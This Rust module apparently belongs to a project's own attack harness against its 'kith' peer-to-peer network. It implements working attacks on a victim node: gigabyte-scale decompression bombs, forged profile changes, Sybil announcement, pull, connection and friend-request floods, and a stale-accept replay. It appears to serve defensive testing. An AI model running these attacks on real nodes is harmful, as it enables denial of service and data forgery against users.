//! The attacks `kith-evil` carries, one function each.

use std::time::{Duration, Instant};

use anyhow::{Context as _, bail};
use kith_crdt::{Doc, DocKind, ParsedChange, guard::craft, profile};
use kith_keys::AccountId;
use kith_protocol::{
    friend::{Action, Signed},
    sync::{
        Announcement, ChangeBatch, ChangeSignatures, CheckGroup, PullItem, PullOutcome, PullResult,
        SyncRequest, SyncResponse,
    },
};
use libp2p::Multiaddr;
use serde_json::json;

use crate::peer::{Answer, Hostile, Server, wire_len};

/// What an attack did, printed as JSON.
#[derive(Debug, Default)]
pub struct Report {
    pub sent: u64,
    pub bytes: u64,
    pub inflates_to: Option<u64>,
    pub extra: serde_json::Map<String, serde_json::Value>,
}

const CONNECT: Duration = Duration::from_secs(10);

/// Every bomb inflates to at least this much in all.
pub const BOMB_TOTAL: u64 = (1 << 30) + (1 << 20);

/// Largest compressed change a pull answer may carry (`MAX_CHANGE_BYTES`).
const CHANGE_CHUNK: u64 = 250 * 1024;

fn random_hash() -> [u8; 32] {
    let mut h = [0u8; 32];
    let _ = getrandom::fill(&mut h);
    h
}

/// Junk heads for `owner`'s document `doc`, announced by `peer`: signed
/// with its own key, and again in the format before announcements were
/// signed (so an old node would act on them), and once with a bad
/// signature. Returns (messages, bytes) published.
fn announce_junk(
    peer: &mut Hostile,
    owner: AccountId,
    doc: DocKind,
    inline: Option<ChangeBatch>,
) -> (u64, u64) {
    let announcement = Announcement {
        owner,
        doc,
        heads: vec![random_hash()],
        by: *peer.identity.device().as_bytes(),
        changes: inline,
    };
    let signed = peer.sign_announcement(&announcement);
    let old_format = cbor4ii::serde::to_vec(Vec::new(), &announcement).unwrap_or_default();
    let mut bad = peer.sign_announcement(&Announcement {
        heads: vec![random_hash()],
        ..announcement
    });
    if let Some(last) = bad.last_mut() {
        *last ^= 1;
    }
    let (mut sent, mut bytes) = (0, 0);
    for message in [signed, old_format, bad] {
        if let Some(len) = peer.publish(&owner, message) {
            sent += 1;
            bytes += len;
        }
    }
    (sent, bytes)
}

/// Connect a fresh Sybil that answers every pull with `payload`, follow
/// `owner`'s topic, and keep announcing junk heads so the victim pulls.
async fn bait(
    addr: &Multiaddr,
    owner: AccountId,
    secs: u64,
    make_server: impl Fn() -> Server,
    inline: impl Fn() -> Option<ChangeBatch>,
) -> anyhow::Result<Report> {
    let end = Instant::now() + Duration::from_secs(secs);
    let mut report = Report::default();
    let mut served = 0;
    while Instant::now() < end {
        let mut peer = Hostile::fresh()?.serving(make_server());
        if peer.connect(addr, true, CONNECT).await.is_err() {
            tokio::time::sleep(Duration::from_millis(200)).await;
            continue;
        }
        let _ = peer.join_topic(&owner, Duration::from_secs(3)).await;
        while peer.is_connected() && Instant::now() < end {
            for doc in [DocKind::Profile, DocKind::Identity, DocKind::Feed] {
                let (sent, bytes) = announce_junk(&mut peer, owner, doc, inline());
                report.sent += sent;
                report.bytes += bytes;
            }
            peer.run_until(Instant::now() + Duration::from_millis(500))
                .await;
        }
        served += peer.served;
        report.bytes += peer.served_bytes;
    }
    report.extra.insert("pulls_answered".into(), json!(served));
    Ok(report)
}

/// Answer pulls (and checks) with `outcome` for every item asked.
fn answer_all(outcome: PullOutcome) -> Server {
    Box::new(move |request| match request {
        SyncRequest::Pull(items) => SyncResponse::Pull(
            items
                .iter()
                .map(|item| PullResult {
                    owner: item.owner,
                    doc: item.doc,
                    outcome: outcome.clone(),
                })
                .collect(),
        ),
        SyncRequest::Check(groups) => SyncResponse::Check(vec![0xff; groups.len()]),
    })
}

/// A whole document of ~1 MiB whose columns inflate past 1 GiB.
pub async fn bomb_document(
    addr: &Multiaddr,
    owner: AccountId,
    secs: u64,
) -> anyhow::Result<Report> {
    let bomb = craft::inflating_document(BOMB_TOTAL, &[]);
    let outcome = PullOutcome::Document {
        doc: bomb.clone(),
        signed: ChangeSignatures::default(),
    };
    let mut report = bait(addr, owner, secs, || answer_all(outcome.clone()), || None).await?;
    report.inflates_to = Some(BOMB_TOTAL);
    report
        .extra
        .insert("payload_bytes".into(), json!(bomb.len()));
    Ok(report)
}

/// A public document of `owner` as the victim serves it to anyone.
async fn fetch_public(addr: &Multiaddr, owner: AccountId, doc: DocKind) -> anyhow::Result<Doc> {
    let mut scout = Hostile::fresh()?;
    scout.connect(addr, true, CONNECT).await?;
    let (id, _) = scout.send_sync(SyncRequest::Pull(vec![PullItem {
        owner,
        doc,
        heads: vec![],
        since: vec![],
    }]));
    let Some(Answer::Sync(SyncResponse::Pull(results))) = scout.wait_answer(id, CONNECT).await
    else {
        bail!("the victim did not serve {doc}");
    };
    let outcome = results
        .into_iter()
        .find(|r| r.owner == owner && r.doc == doc)
        .map(|r| r.outcome)
        .context("no such document in the answer")?;
    let device = scout.identity.device();
    match outcome {
        PullOutcome::Changes { batch, .. } => {
            let mut copy = Doc::new(&device);
            let changes = batch
                .changes
                .into_iter()
                .map(|c| ParsedChange::parse(c.bytes))
                .collect::<Result<Vec<_>, _>>()?;
            copy.apply(changes)?;
            Ok(copy)
        }
        PullOutcome::Document { doc, .. } => Ok(Doc::from_peer(&doc, &device)?),
        other => bail!("the victim answered {other:?}"),
    }
}

/// Compressed change chunks (the largest a change may be) that inflate to
/// more than 1 GiB together, in pull answers; and small ones inline in
/// announcements. They carry the owner's real device certificate (public,
/// in its identity document), so only the signature, checked last before
/// the guard existed, gives them away.
pub async fn bomb_change(addr: &Multiaddr, owner: AccountId, secs: u64) -> anyhow::Result<Report> {
    let evil = Hostile::fresh()?;
    let identity = fetch_public(addr, owner, DocKind::Identity).await?;
    let owner_certs = kith_crdt::identity::devices(&identity, &owner);
    let cert = owner_certs
        .first()
        .cloned()
        .unwrap_or_else(|| evil.identity.cert.clone());
    let per_chunk = CHANGE_CHUNK * 1000;
    let chunks = BOMB_TOTAL.div_ceil(per_chunk);
    let chunk = craft::inflating_change(per_chunk);
    let mut batch = ChangeBatch::default();
    let signature = evil
        .identity
        .device_key
        .sign(kith_keys::sign::Context::DocumentChange, b"x");
    for _ in 0..chunks {
        batch.push(chunk.clone(), signature, &cert);
    }
    let outcome = PullOutcome::Changes {
        heads: vec![random_hash()],
        batch,
        more: true,
    };
    let mut inline = ChangeBatch::default();
    inline.push(craft::inflating_change(12 * 1024 * 1000), signature, &cert);
    let mut report = bait(
        addr,
        owner,
        secs,
        || answer_all(outcome.clone()),
        || Some(inline.clone()),
    )
    .await?;
    report.inflates_to = Some(chunks * per_chunk);
    report
        .extra
        .insert("chunk_bytes".into(), json!(chunk.len()));
    report
        .extra
        .insert("owner_certificate".into(), json!(!owner_certs.is_empty()));
    Ok(report)
}

/// Fetch `owner`'s public profile from the victim (any stranger may), then
/// offer it back as a whole document carrying a forged field on a change
/// whose dependency is missing, followed by that dependency.
pub async fn orphan_change(
    addr: &Multiaddr,
    owner: AccountId,
    secs: u64,
) -> anyhow::Result<Report> {
    let mut scout = Hostile::fresh()?;
    scout.connect(addr, true, CONNECT).await?;
    let (id, _) = scout.send_sync(SyncRequest::Pull(vec![PullItem {
        owner,
        doc: DocKind::Profile,
        heads: vec![],
        since: vec![],
    }]));
    let Some(Answer::Sync(SyncResponse::Pull(results))) = scout.wait_answer(id, CONNECT).await
    else {
        bail!("the victim did not serve the profile");
    };
    let Some(result) = results.into_iter().find(|r| r.owner == owner) else {
        bail!("no profile in the answer");
    };
    let device = scout.identity.device();
    let (changes, signatures) = match result.outcome {
        PullOutcome::Changes { batch, .. } => {
            let mut sigs = ChangeSignatures::default();
            let mut parsed = Vec::new();
            for c in &batch.changes {
                let change = ParsedChange::parse(c.bytes.clone())?;
                if let Some(cert) = batch.certs.get(usize::from(c.cert)) {
                    sigs.push(change.hash, c.signature, cert);
                }
                parsed.push(change);
            }
            (parsed, sigs)
        }
        PullOutcome::Document { doc, signed } => {
            let mut whole = Doc::from_peer(&doc, &device)?;
            (whole.changes_since(&[])?, signed)
        }
        other => bail!("the victim answered {other:?}"),
    };
    let Some((last, earlier)) = changes.split_last() else {
        bail!("the profile has no changes to build on");
    };
    let mut before = Doc::new(&device);
    before.apply(earlier.to_vec())?;
    let mut full = before.clone();
    full.apply(vec![last.clone()])?;
    // The forged change, as if written by the owner's device, on top of
    // the last real one.
    let author =
        kith_keys::DeviceId::from_bytes(last.actor.as_slice().try_into().context("actor id")?)?;
    let mut forger = Doc::load(&full.save()?, &author)?;
    profile::set(&mut forger, "forged", "yes")?;
    let forged = forger.commit().context("no forged change")?;
    let mut payload = before.snapshot()?;
    payload.extend_from_slice(&forged.bytes);
    let outcome = PullOutcome::Document {
        doc: payload.clone(),
        signed: signatures.clone(),
    };
    // Then the dependency itself, as changes.
    let mut dependency = ChangeBatch::default();
    if let Some(entry) = signatures.changes.iter().find(|s| s.hash == last.hash)
        && let Some(cert) = signatures.certs.get(usize::from(entry.cert))
    {
        dependency.push(last.bytes.clone(), entry.signature, cert);
    }
    let mut report = bait(
        addr,
        owner,
        secs,
        || answer_all(outcome.clone()),
        || Some(dependency.clone()),
    )
    .await?;
    report
        .extra
        .insert("payload_bytes".into(), json!(payload.len()));
    Ok(report)
}

/// Announcements with junk heads, as fast as gossip takes them, from a new
/// Sybil each time the victim throws one out.
pub async fn junk_announce(
    addr: &Multiaddr,
    owner: AccountId,
    secs: u64,
) -> anyhow::Result<Report> {
    let end = Instant::now() + Duration::from_secs(secs);
    let mut report = Report::default();
    let mut sybils = 0;
    while Instant::now() < end {
        let mut peer = Hostile::fresh()?;
        sybils += 1;
        if peer.connect(addr, true, CONNECT).await.is_err() {
            continue;
        }
        let _ = peer.join_topic(&owner, Duration::from_secs(3)).await;
        while peer.is_connected() && Instant::now() < end {
            for _ in 0..50 {
                let (sent, bytes) = announce_junk(&mut peer, owner, DocKind::Profile, None);
                report.sent += sent;
                report.bytes += bytes;
            }
            peer.run_until(Instant::now() + Duration::from_millis(20))
                .await;
        }
    }
    report.extra.insert("sybils".into(), json!(sybils));
    Ok(report)
}

/// Pull and check requests as fast as the victim takes them, asking for
/// whole documents (empty heads) and for unknown accounts. Reports the
/// bytes received back and the amplification (received / sent).
pub async fn pull_flood(addr: &Multiaddr, owner: AccountId, secs: u64) -> anyhow::Result<Report> {
    let end = Instant::now() + Duration::from_secs(secs);
    let mut report = Report::default();
    let (mut received, mut busy) = (0u64, 0u64);
    while Instant::now() < end {
        let mut peer = Hostile::fresh()?;
        if peer.connect(addr, true, CONNECT).await.is_err() {
            continue;
        }
        let mut inflight = Vec::new();
        while peer.is_connected() && Instant::now() < end {
            while inflight.len() < 8 {
                let request = if report.sent % 2 == 0 {
                    let items = (0..256)
                        .map(|i| PullItem {
                            owner,
                            doc: [DocKind::Profile, DocKind::Identity, DocKind::Feed][i % 3],
                            heads: vec![],
                            since: vec![],
                        })
                        .collect();
                    SyncRequest::Pull(items)
                } else {
                    let groups = (0..256)
                        .map(|_| CheckGroup {
                            owner: kith_keys::AccountKey::generate().id(),
                            docs: DocKind::ALL.iter().map(|k| (*k, [0; 8])).collect(),
                        })
                        .collect();
                    SyncRequest::Check(groups)
                };
                let (id, len) = peer.send_sync(request);
                inflight.push(id);
                report.sent += 1;
                report.bytes += len;
            }
            let _ = peer.step(Instant::now() + Duration::from_secs(2)).await;
            for (id, answer) in std::mem::take(&mut peer.answers) {
                inflight.retain(|i| *i != id);
                if let Answer::Sync(response) = answer {
                    if matches!(response, SyncResponse::Busy) {
                        busy += 1;
                    }
                    received += wire_len(&response);
                }
            }
        }
    }
    report
        .extra
        .insert("received_bytes".into(), json!(received));
    report.extra.insert("busy".into(), json!(busy));
    let amplification = received as f64 / report.bytes.max(1) as f64;
    report
        .extra
        .insert("amplification".into(), json!(amplification));
    Ok(report)
}

/// Connections from many Sybils that never say hello, and raw TCP
/// connections that never finish their handshake.
pub async fn conn_flood(addr: &Multiaddr, secs: u64) -> anyhow::Result<Report> {
    let end = Instant::now() + Duration::from_secs(secs);
    let mut report = Report::default();
    let tcp = tcp_addr(addr);
    let mut tasks = tokio::task::JoinSet::new();
    let mut raw = Vec::new();
    while Instant::now() < end {
        // A silent libp2p connection, held until the end.
        let addr = addr.clone();
        tasks.spawn(async move {
            let Ok(mut peer) = Hostile::fresh() else {
                return false;
            };
            let ok = peer.connect(&addr, false, CONNECT).await.is_ok();
            peer.run_until(end).await;
            ok
        });
        // A raw TCP connection that never speaks.
        if let Some(tcp) = tcp
            && raw.len() < 512
            && let Ok(Ok(stream)) =
                tokio::time::timeout(Duration::from_secs(1), tokio::net::TcpStream::connect(tcp))
                    .await
        {
            raw.push(stream);
        }
        report.sent += 2;
        tokio::time::sleep(Duration::from_millis(20)).await;
        // Keep the number of tasks bounded.
        while tasks.len() > 400 {
            let _ = tasks.join_next().await;
        }
    }
    let mut established = 0;
    while let Some(result) = tasks.join_next().await {
        if result.unwrap_or(false) {
            established += 1;
        }
    }
    report
        .extra
        .insert("established".into(), json!(established));
    report.extra.insert("raw_tcp".into(), json!(raw.len()));
    Ok(report)
}

fn tcp_addr(addr: &Multiaddr) -> Option<std::net::SocketAddr> {
    use libp2p::multiaddr::Protocol;
    let mut ip = None;
    let mut port = None;
    for p in addr.iter() {
        match p {
            Protocol::Ip4(a) => ip = Some(std::net::IpAddr::V4(a)),
            Protocol::Ip6(a) => ip = Some(std::net::IpAddr::V6(a)),
            Protocol::Tcp(p) => port = Some(p),
            _ => {}
        }
    }
    Some(std::net::SocketAddr::new(ip?, port?))
}

/// Friend requests from a stream of Sybils, each sending more than its
/// per-peer limit.
pub async fn handshake_flood(addr: &Multiaddr, secs: u64) -> anyhow::Result<Report> {
    let end = Instant::now() + Duration::from_secs(secs);
    let mut report = Report::default();
    let mut codes: std::collections::BTreeMap<String, u64> = Default::default();
    while Instant::now() < end {
        let mut peer = Hostile::fresh()?;
        if peer.connect(addr, true, CONNECT).await.is_err() {
            continue;
        }
        let Some(victim) = peer.target_account else {
            continue;
        };
        let mut ids = Vec::new();
        for i in 0..20 {
            let message = peer.seal(
                victim,
                Action::Request {
                    name: format!("sybil {i}"),
                    message: "x".repeat(1000),
                    invite: None,
                },
            );
            let (id, len) = peer.send_friend(message);
            ids.push(id);
            report.sent += 1;
            report.bytes += len;
        }
        for id in ids {
            let code = match peer.wait_answer(id, Duration::from_secs(5)).await {
                Some(Answer::Friend(kith_protocol::friend::Reply::Refused { code })) => code,
                Some(Answer::Friend(_)) => "received".into(),
                _ => "no answer".into(),
            };
            *codes.entry(code).or_default() += 1;
        }
    }
    report.extra.insert("replies".into(), json!(codes));
    Ok(report)
}

/// As the ex-friend whose home is `home` (its daemon stopped): replay the
/// accept it once sent, then sign a new accept naming the old request.
pub async fn stale_accept(addr: &Multiaddr, home: &std::path::Path) -> anyhow::Result<Report> {
    let home = kith_node::Home::new(home);
    let identity = home.load().context("the ex-friend's home")?;
    let store = kith_node::store::Store::open(&home.db_path()).context("the ex-friend's store")?;
    let mut peer = Hostile::with_identity(identity.clone())?;
    peer.connect(addr, true, CONNECT).await?;
    let victim = peer.target_account.context("no hello from the victim")?;
    // The victim's request, as the ex-friend received it.
    let record = store
        .request(&victim)?
        .context("the ex-friend holds no request from the victim")?;
    let request = record
        .signed
        .first()
        .and_then(|b| Signed::from_bytes(b).ok())
        .context("the stored request is unreadable")?;
    // The accept it signed, kept with the friendship's proof in its store.
    let old_accept = record
        .proof
        .as_ref()
        .and_then(|(_, accept)| Signed::from_bytes(accept).ok());
    let mut report = Report::default();
    report
        .extra
        .insert("had_old_accept".into(), json!(old_accept.is_some()));
    report
        .extra
        .insert("record_state".into(), json!(record.state.as_str()));
    let mut replies = Vec::new();
    let fresh = peer.seal(
        victim,
        Action::Accept {
            request: request.hash(),
            name: "ex-friend".into(),
        },
    );
    for message in old_accept.into_iter().chain([fresh]) {
        let (id, len) = peer.send_friend(message);
        report.sent += 1;
        report.bytes += len;
        let reply = match peer.wait_answer(id, CONNECT).await {
            Some(Answer::Friend(kith_protocol::friend::Reply::Refused { code })) => code,
            Some(Answer::Friend(kith_protocol::friend::Reply::Received)) => "received".into(),
            Some(Answer::Friend(_)) => "accepted".into(),
            Some(Answer::Failed(e)) => format!("failed: {e}"),
            _ => "no answer".into(),
        };
        replies.push(reply);
    }
    report.extra.insert("replies".into(), json!(replies));
    Ok(report)
}
